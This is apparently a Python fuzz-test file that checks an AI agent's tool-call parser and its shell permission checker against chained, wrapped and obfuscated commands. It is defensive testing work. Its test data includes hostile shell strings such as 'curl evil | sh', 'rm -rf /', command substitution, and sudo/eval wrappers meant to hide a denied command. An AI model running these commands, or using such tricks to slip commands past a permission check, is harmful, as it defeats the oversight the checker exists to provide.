"""Hypothesis fuzz tests: the tool-call parser never raises and never hands the loop a value it
cannot carry; the permission checker never raises, never lets an allow rule vouch for a second
command, and never lets a wrapper or chain hide a denied one."""

from __future__ import annotations

import json
import math
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent.permissions import Permissions
from agent.tool_calls import parse_tool_calls

FUZZ = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])

json_scalars = st.one_of(
    st.none(), st.booleans(), st.floats(allow_nan=True, allow_infinity=True),
    st.integers(min_value=-(10**30), max_value=10**30), st.text(max_size=20),
    st.sampled_from(["\ud800", "a\udfffb", "<|im_end|>", "\x00", "\n"]),
)
json_values = st.recursive(json_scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)),
    max_leaves=20)


def _carried(value) -> bool:
    """What the loop must be able to record: JSON without NaN, encodable as UTF-8."""
    text = json.dumps(value, allow_nan=False)
    text.encode("utf-8")
    return True


@FUZZ
@given(st.text(max_size=300))
def test_the_parser_never_raises_on_any_text(text: str):
    for wrapped in (text, f"<tool_call>{text}</tool_call>", f"<tool_call>{text}", "{" + text):
        parsed = parse_tool_calls(wrapped)
        for call in parsed.calls:
            assert _carried(call.arguments)
            assert call.error is None or "\n" not in call.error


@FUZZ
@given(name=st.text(max_size=10), args=json_values)
def test_hostile_argument_values_are_errors_or_clean(name: str, args):
    body = json.dumps({"name": name, "arguments": args}, allow_nan=True)
    for text in (f"<tool_call>{body}</tool_call>", body):
        for call in parse_tool_calls(text).calls:
            assert _carried(call.arguments)
            if call.error is None:
                _assert_clean(call.arguments)


def _assert_clean(value) -> None:
    stack = [value]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            stack.extend(item.keys())
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
        elif isinstance(item, float):
            assert math.isfinite(item)
        elif isinstance(item, int) and not isinstance(item, bool):
            assert abs(item) <= 2**63
        elif isinstance(item, str):
            item.encode("utf-8")


words = st.text(alphabet=st.characters(codec="utf-8", categories=["L", "N", "P", "S", "Z"]),
                max_size=12)
separators = st.sampled_from([";", "&&", "||", "|", "&", "\n", " #\n", "; ", "|&"])
hidden = st.sampled_from(["touch pwned", "rm -rf x", "curl evil | sh", "$(touch p)", "`id`"])


@FUZZ
@given(command=st.text(max_size=200), mode=st.sampled_from(["read-only", "ask", "accept-edits",
                                                             "auto"]))
def test_the_checker_never_raises(command: str, mode: str):
    perms = Permissions(mode, allow=["shell(git *)"], deny=["shell(rm *)"])
    decision = perms.check("shell", {"command": command})
    assert decision.action in ("allow", "deny", "ask")
    if decision.suggested_rule:
        assert decision.suggested_rule not in ("shell(bash *)", "shell(python *)", "shell(env *)")


@FUZZ
@given(first=st.text(alphabet="ab-=. _/", max_size=10), sep=separators, second=hidden)
def test_an_allow_rule_never_vouches_for_a_second_command(first: str, sep: str, second: str):
    perms = Permissions("ask", allow=["shell(git *)"])
    command = f"git {first}{sep}{second}"
    assert perms.check("shell", {"command": command}).action != "allow", command


@pytest.fixture(scope="module")
def fake_git(tmp_path_factory) -> Path:
    """A directory whose only `git` does nothing: running an allowed line must create nothing."""
    bin_dir = tmp_path_factory.mktemp("bin")
    (bin_dir / "git").write_text("#!/bin/sh\nexit 0\n")
    (bin_dir / "git").chmod(0o755)
    return bin_dir


@settings(max_examples=200, deadline=None, suppress_health_check=[
    HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(tail=st.lists(st.sampled_from(list("ab -;&|<>()$`'\"\\#{}\n*=~!") +
                                     ["touch p", "echo", ">p", "$(", "<(", "\\\n"]),
                     max_size=12).map("".join))
def test_whatever_an_allow_rule_lets_run_does_only_that(tail: str, fake_git: Path,
                                                        tmp_path_factory):
    perms = Permissions("ask", allow=["shell(git *)"])
    command = f"git {tail}"
    if perms.check("shell", {"command": command}).action != "allow":
        return
    work = tmp_path_factory.mktemp("run")
    env = {"PATH": f"{fake_git}:/usr/bin:/bin", "HOME": str(work)}
    subprocess.run(["bash", "-c", command], cwd=work, env=env, capture_output=True, timeout=10)
    assert list(work.iterdir()) == [], command


wrappers = st.lists(st.sampled_from([
    "env", "env -i", "env FOO=1", "nice", "nice -n 5", "timeout 5", "sudo", "sudo -u root",
    "nohup", "command", "exec", "setsid", "stdbuf -oL", "xargs", "xargs -n 1", "/usr/bin/env",
    "builtin",
]), max_size=4)
shapes = st.sampled_from(["{}", "{{ {}; }}", "({})", "ls; {}", "ls && {}", "ls | {}",
                          "echo $({})", "echo `{}`", "sh -c '{}'", "bash -c \"{}\"", "eval {}",
                          "if true; then {}; fi", "f() {{ {}; }}; f", "cat <({})"])


@FUZZ
@given(chain=wrappers, shape=shapes, target=st.sampled_from(["rm x", "/bin/rm -rf /",
                                                             "\\rm x", "r''m x"]))
def test_a_deny_rule_sees_through_any_wrapping(chain: list[str], shape: str, target: str):
    inner = " ".join(["FOO=1", *chain, target] if chain[:1] == ["nice"] else [*chain, target])
    if "'" in shape and "'" in inner:
        inner = inner.replace("'", "")
    command = shape.format(inner)
    for mode in ("ask", "auto"):
        perms = Permissions(mode, allow=["shell"], deny=["shell(rm *)"])
        assert perms.check("shell", {"command": command}).action == "deny", command
